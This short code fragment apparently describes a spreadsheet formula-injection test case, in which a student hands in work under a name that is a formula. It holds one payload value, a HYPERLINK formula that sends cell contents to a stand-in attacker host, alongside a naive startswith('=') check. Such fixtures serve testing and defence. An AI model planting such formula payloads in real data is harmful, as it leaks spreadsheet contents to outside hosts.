"""
attacks = "Hand in under a name that is a formula."
promise = "books"
student = '=HYPERLINK("evil.example?"&A1)'
observed = "same"
control = "naive"
naive = "student.startswith('=')"
"""
